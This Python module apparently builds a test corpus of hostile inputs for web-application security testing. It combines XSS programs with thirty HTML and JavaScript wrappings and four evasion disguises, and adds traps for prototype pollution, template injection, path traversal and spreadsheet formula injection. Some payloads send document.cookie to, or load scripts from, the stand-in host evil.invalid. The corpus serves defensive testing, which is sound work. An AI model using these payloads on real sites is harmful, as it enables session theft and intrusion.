"""Hostile strings made by rule: programs in wrappings, each in four disguises; and strings that trip programs without any markup."""

from __future__ import annotations

import itertools

PROGRAMS = ("window.hacked=1", "fetch('http://evil.invalid/'+document.cookie)", "parent.hacked=1", "import('http://evil.invalid/x.js')", "new Image().src='//evil.invalid'")
WRAPPINGS = (
    '<script>{}</script>', '<img src=x onerror="{}">', '<svg onload="{}">', '<iframe srcdoc="<script>{}</script>">', 'javascript:{}', '<a href="javascript:{}">x</a>', '"><script>{}</script>', "'\"><img src=x onerror={}>",
    '${{{}}}', '{{{{{}}}}}', '<style>@import "http://evil.invalid/{}"</style>', '<link rel=stylesheet href="http://evil.invalid/{}">', '<object data="http://evil.invalid/{}">', '<math><mtext></mtext><script>{}</script></math>',
    '<body onload="{}">', '<video><source onerror="{}">', '<details open ontoggle="{}">', '</textarea><script>{}</script>', '--><script>{}</script>', ']]><script>{}</script>', '<base href="http://evil.invalid/">{}', '\u202e{}\u2066',
    '<input autofocus onfocus="{}">', '<meta http-equiv=refresh content="0;url=http://evil.invalid/{}">', '<embed src="http://evil.invalid/{}">', "`;{};`", '\\u003cscript\\u003e{}', '&lt;script&gt;{}&lt;/script&gt;',
    '<svg><use href="http://evil.invalid/{}#x"/></svg>', '<svg><script>{}</script></svg>')
MARKUP = tuple(wrapping.format(program) for program, wrapping in itertools.product(PROGRAMS, WRAPPINGS))
"""150 strings: five programs in thirty wrappings."""


def _waved(text: str) -> str:
    """Change the case of every second letter between a < and the first space or >: names of elements do not mind."""
    out, inside = [], False
    for k, letter in enumerate(text):
        inside = letter == "<" or (inside and letter not in " >")
        out.append(letter.upper() if inside and k % 2 else letter)
    return "".join(out)


DISGUISES = (str, lambda text: _waved(f"<marquee>{text}</marquee>"), lambda text: f"\ufeff\u200b\u202e{text}\u2069\u00ad", lambda text: f"'\"`--></title></textarea></script></style></svg>{text}")
STRINGS = tuple(disguise(text) for disguise, text in itertools.product(DISGUISES, MARKUP))
"""600 strings."""
TRAPS = (
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "null", "undefined", "NaN", "Infinity", "-0", "true", "[object Object]", "%s%s%s%n", "%00", "%2e%2e%2f", "../../../etc/passwd",
    "{{7*7}}", "{% raw %}", "{name}", "{", "}", "#{7*7}", "<%= 7*7 %>", "$&", "$1", "\\", "\\0", "\\x3cscript\\x3e", "=HYPERLINK(\"http://evil.invalid\";\"x\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "+1+1", "-1+1", "\t=1+1",
    "url(http://evil.invalid/x.png)", "expression(window.hacked=1)", "@import 'http://evil.invalid/x.css';", "*/window.hacked=1/*", "//evil.invalid/x.js", "data:text/html,<script>window.hacked=1</script>", "&#60;script&#62;", "&amp;lt;",
    "\u2028window.hacked=1\u2029", "a\x00b", "\x1b[31m", "\x85\x7f", "\ufffe\uffff", "\u202eabc\u2066", "ﾊﾝｶｸ", "\uff1cscript\uff1ewindow.hacked=1\uff1c/script\uff1e", "葛\U000e0100", "👨\u200d👩\u200d👧", "e\u0301" * 40, "\u0e49" * 60, "字" * 3000,
    "<b>" * 1000, "א" * 30 + "ب" * 30, " ", "\u3000", "\ufeff")
"""Strings that are no markup: names of the language, templates, formulas, paths, unseen and endless characters."""
EXECUTED = "window.hacked = 0; for (const say of ['alert', 'confirm', 'prompt']) window[say] = () => { window.hacked += 1; };"
"""Run before a page's own scripts; afterwards `window.hacked` is 0 where nothing ran."""
